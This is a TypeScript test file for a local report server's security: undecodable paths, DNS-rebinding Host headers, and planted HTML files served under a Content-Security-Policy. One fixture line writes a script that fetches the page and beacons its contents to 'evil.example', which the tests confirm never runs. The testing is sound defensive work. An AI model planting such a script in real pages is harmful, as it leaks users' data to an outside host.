/**
 * `fencecheck serve` as its own process, attacked as any web page the user
 * opens can attack it: a path that does not decode, a foreign Host (DNS
 * rebinding), a service's own .html in the store. Then a real report,
 * opened through the server in headless Chromium, still draws under the
 * server's Content-Security-Policy (skipped without Chromium, except
 * under CI=true).
 */
import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { connect } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { chromium } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { testRunConfig } from "../../checkers/index.js";
import { syntheticLockRun } from "../../reports/index.js";
import { checkAndReport } from "../run/analyze/index.js";
import { startCli, until, type CliChild } from "./testing/cli-process.js";

const CHROMIUM = "/usr/bin/chromium";
const ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"];
const store = mkdtempSync(join(tmpdir(), "fc-serve-attacks-"));
const runDir = join(store, "synthetic-unfenced", "2026-12-01T000000Z-abcdef");
let serve: CliChild;
let port = 0;

interface Answer { readonly status: number; readonly headers: Record<string, string | string[] | undefined>; readonly body: string }

function get(path: string, host = `127.0.0.1:${port}`): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request({ host: "127.0.0.1", port, path, headers: { host } }, (res) => {
      let body = "";
      res.setEncoding("utf8").on("data", (c: string) => (body += c)).on("end", () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
    });
    req.on("error", reject).end();
  });
}

/** One raw HTTP/1.0 request with no Host header at all; resolves with the status line. */
function getWithoutHost(): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, "127.0.0.1", () => socket.write("GET / HTTP/1.0\r\n\r\n"));
    let text = "";
    socket.setEncoding("utf8").on("data", (c: string) => (text += c)).on("end", () => resolve(text.split("\r\n")[0] ?? "")).on("error", reject);
  });
}

beforeAll(async () => {
  const run = syntheticLockRun({ ops: 2000, storage: "unfenced", seed: 3, pauseChance: 0.05 });
  const config = testRunConfig("unfenced", { name: "synthetic-unfenced", workload: run.config });
  mkdirSync(runDir, { recursive: true });
  writeFileSync(join(runDir, "config.json"), JSON.stringify(config));
  await checkAndReport({ config, history: run.history, storage: run.storage, dir: runDir, junitPath: join(runDir, "junit.xml") });
  // What a service under test could leave in its data folder, and a link dressed as a report.
  const data = join(runDir, "nodes", "n1");
  mkdirSync(data, { recursive: true });
  writeFileSync(join(data, "page.html"), "<script>fetch('/').then(r => r.text()).then(t => navigator.sendBeacon('http://evil.example/', t))</script>");
  mkdirSync(join(store, "planted", "x"), { recursive: true });
  symlinkSync(join(data, "page.html"), join(store, "planted", "x", "report.html"));
  serve = startCli(["serve", store, "--port", "0"]);
  await until("serve to print its address", () => /127\.0\.0\.1:\d+/.test(serve.stdout()), 30_000);
  port = Number(/127\.0\.0\.1:(\d+)/.exec(serve.stdout())![1]);
}, 120_000);

afterAll(async () => {
  serve.child.kill("SIGINT");
  await serve.done;
  rmSync(store, { recursive: true, force: true });
});

describe("fencecheck serve, attacked", () => {
  it("answers 400 to a path that does not decode, and keeps serving", async () => {
    expect((await get("/%")).status).toBe(400);
    expect((await get("/%E0%A4%A")).status).toBe(400);
    expect((await get("/")).status).toBe(200);
    expect(serve.child.exitCode).toBeNull();
  });

  it("refuses a foreign Host (a DNS-rebound name) and a request without one", async () => {
    const rebound = await get("/synthetic-unfenced/2026-12-01T000000Z-abcdef/config.json", `attacker.example:${port}`);
    expect(rebound.status).toBe(421);
    expect(rebound.body).not.toContain("synthetic-unfenced");
    expect((await get("/", `127.0.0.1:${port + 1}`)).status).toBe(421);
    expect(await getWithoutHost()).toMatch(/^HTTP\/1\.[01] 421/);
    expect((await get("/", `localhost:${port}`)).status).toBe(200);
  });

  it("serves a service's .html as text, sandboxed, and a link named report.html too", async () => {
    for (const path of ["/synthetic-unfenced/2026-12-01T000000Z-abcdef/nodes/n1/page.html", "/planted/x/report.html"]) {
      const page = await get(path);
      expect(page.status).toBe(200);
      expect(page.headers["content-type"]).toBe("text/plain; charset=utf-8");
      expect(page.headers["x-content-type-options"]).toBe("nosniff");
      expect(page.headers["content-security-policy"]).toContain("sandbox");
    }
  });

  it("serves the tool's report as HTML with nosniff and a policy that allows only its own script", async () => {
    const report = await get("/synthetic-unfenced/2026-12-01T000000Z-abcdef/report.html");
    expect(report.status).toBe(200);
    expect(report.headers["content-type"]).toBe("text/html; charset=utf-8");
    expect(report.headers["x-content-type-options"]).toBe("nosniff");
    expect(report.headers["content-security-policy"]).toMatch(/default-src 'none'.*script-src 'sha256-[A-Za-z0-9+/=]+'; style-src 'unsafe-inline'; img-src data:$/);
  });
});

describe.skipIf(!existsSync(CHROMIUM) && process.env.CI !== "true")("the report served, in Chromium", () => {
  it("draws its charts and timelines with no console error and no policy violation", async () => {
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS });
    try {
      const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
      const errors: string[] = [];
      page.on("console", (m) => void (m.type() === "error" && errors.push(m.text())));
      page.on("pageerror", (e) => void errors.push(e.message));
      await page.goto(`http://127.0.0.1:${port}/synthetic-unfenced/2026-12-01T000000Z-abcdef/report.html`);
      await page.waitForSelector("html[data-fc-drawn]", { timeout: 30_000 });
      expect(await page.locator("h1").first().textContent()).toBe("Invalid");
      const charts = await page.$$eval("img.chart", (imgs) => imgs.map((i) => (i as unknown as { naturalWidth: number }).naturalWidth));
      expect(charts.length).toBeGreaterThanOrEqual(2);
      expect(charts.every((w) => w > 0)).toBe(true);
      const swatch = await page.$eval("i.swatch", (el) => (el as unknown as { ownerDocument: { defaultView: { getComputedStyle(e: unknown): { backgroundColor: string } } } }).ownerDocument.defaultView.getComputedStyle(el).backgroundColor);
      expect(swatch).not.toBe("rgba(0, 0, 0, 0)");
      expect(errors).toEqual([]);
      // The service's page is text here: its script never runs.
      await page.goto(`http://127.0.0.1:${port}/synthetic-unfenced/2026-12-01T000000Z-abcdef/nodes/n1/page.html`);
      expect(await page.locator("script").count()).toBe(0);
    } finally {
      await browser.close();
    }
  });
});
